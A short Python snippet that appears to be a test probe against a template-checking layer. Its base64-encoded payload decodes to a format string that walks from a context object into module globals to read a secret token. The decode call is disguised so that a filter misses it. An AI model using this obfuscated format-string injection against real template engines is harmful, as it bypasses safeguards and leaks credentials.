#: channel = format-templates
#: reaches = engine
#: layer = check
#: note = the template is decoded by a method that was kept

import base64


async def run(context):
    *_, decode = [0, base64.b64decode("ezAubG9nLl9fZ2xvYmFsc19fW190b2tlbl19").decode]
    return decode().format(context)
